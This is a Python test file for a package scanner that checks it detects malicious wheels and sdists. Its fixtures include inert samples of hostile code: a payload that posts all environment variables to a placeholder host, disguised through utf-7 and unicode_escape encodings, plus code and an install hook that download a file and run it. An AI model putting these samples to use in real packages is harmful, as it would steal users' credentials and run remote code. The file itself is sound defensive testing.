"""Source written in an encoding that hides it from readers (PEP 263 lets a file declare
``utf-7`` or ``unicode_escape``): the scanner reads it as Python does, and says so.

The "malicious" sources below are inert text handed to the scanner; nothing runs them.
"""

from __future__ import annotations

import base64

import pytest

from pipgate.proxy.scan.source import decode_source, disguise
from tests.support.archives import pkg_info, sdist, wheel
from tests.support.scan import judge

WHEEL = "demo-1.0-py3-none-any.whl"
PAYLOAD = (
    "import os, requests\nrequests.post('https://collect.example.net/u', json=dict(os.environ))\n"
)


def _utf7_throughout(text: str) -> bytes:
    """Every line as one UTF-7 shifted run: nothing of it readable as ASCII."""
    lines = []
    for line in text.splitlines():
        packed = base64.b64encode(line.encode("utf-16-be")).decode().rstrip("=")
        lines.append(f"+{packed}-")
    return ("\n".join(lines) + "\n").encode("ascii")


def _escaped_throughout(text: str) -> bytes:
    return "".join(c if c == "\n" else f"\\x{ord(c):02x}" for c in text).encode("ascii")


DISGUISED = {
    "utf-7": b"# -*- coding: utf-7 -*-\n" + _utf7_throughout(PAYLOAD),
    "unicode_escape": b"# coding: unicode_escape\n" + _escaped_throughout(PAYLOAD),
}


@pytest.mark.parametrize("codec", sorted(DISGUISED))
def test_source_is_read_in_the_encoding_it_declares(codec: str) -> None:
    data = DISGUISED[codec]
    assert b"requests" not in data  # nothing for a byte scanner to see
    assert "requests.post(" in decode_source(data)
    assert disguise(data) == codec


@pytest.mark.parametrize("codec", sorted(DISGUISED))
@pytest.mark.parametrize("where", ["demo/__init__.py", "demo/util.py"])
def test_a_disguised_module_is_read_and_held(codec: str, where: str) -> None:
    files = {"demo/__init__.py": b"from . import util\n", where: DISGUISED[codec]}
    if where == "demo/__init__.py":
        files = {where: DISGUISED[codec], "demo/util.py": b""}
    rules, held = judge(wheel(files), WHEEL)
    assert held, rules
    assert "obfuscated" in rules and "credential-exfil" in rules, rules


@pytest.mark.parametrize(
    "head",
    [b"# -*- coding: utf-8 -*-\n", b"# coding: latin-1\n", b"# vim: set fileencoding=cp1252 :\n"],
)
def test_everyday_encodings_are_no_disguise(head: str) -> None:
    data = head + "print('caf\u00e9')\n".encode("latin-1" if b"utf-8" not in head else "utf-8")
    assert disguise(data) == ""
    assert "café" in decode_source(data)


def test_a_source_with_a_byte_order_mark_is_parsed() -> None:
    """Editors on Windows start UTF-8 files with a BOM; Python reads them as any other, and
    so does the scanner now (it once left them to the coarse line reading)."""
    source = (
        "import urllib.request, subprocess\n"
        "path = '/tmp/.cache-update'\n"
        "urllib.request.urlretrieve('https://cdn.example.net/a', path)\n"
        "subprocess.Popen([path])\n"
    )
    data = b"\xef\xbb\xbf" + source.encode()
    assert decode_source(data) == source
    rules, held = judge(wheel({"demo/__init__.py": data}), WHEEL)
    assert held and "drop-run" in rules, rules


INSTALL_FETCH = (
    "import requests\nfrom setuptools import setup\nfrom setuptools.command.install import install\n"
    "class Fetch(install):\n"
    "    def run(self):\n"
    "        data = requests.get('https://cdn.example.net/{name}').content\n"
    "        with open('{name}', 'wb') as f:\n"
    "            f.write(data)\n"
    "        install.run(self)\n"
    "setup(name='demo', version='1.0', cmdclass={{'install': Fetch}})\n"
)


def test_a_download_saved_as_python_code_at_install_is_a_drop() -> None:
    files = {
        "setup.py": INSTALL_FETCH.format(name="rat.py"),
        "PKG-INFO": pkg_info("demo", "1.0"),
        "demo/__init__.py": "VERSION = 1\n",
    }
    rules, held = judge(sdist(files), "demo-1.0.tar.gz")
    assert held and "drop-run" in rules, rules
    files["setup.py"] = INSTALL_FETCH.format(name="schema.json")
    rules, _ = judge(sdist(files), "demo-1.0.tar.gz")
    assert "drop-run" not in rules, rules


def test_a_tool_that_fetches_a_python_template_when_asked_passes() -> None:
    source = (
        "import requests\ndef fetch_template(url):\n"
        "    with open('conftest.py', 'wb') as f:\n"
        "        f.write(requests.get(url).content)\n"
    )
    rules, held = judge(wheel({"demo/__init__.py": source}), WHEEL)
    assert not held and "drop-run" not in rules, rules
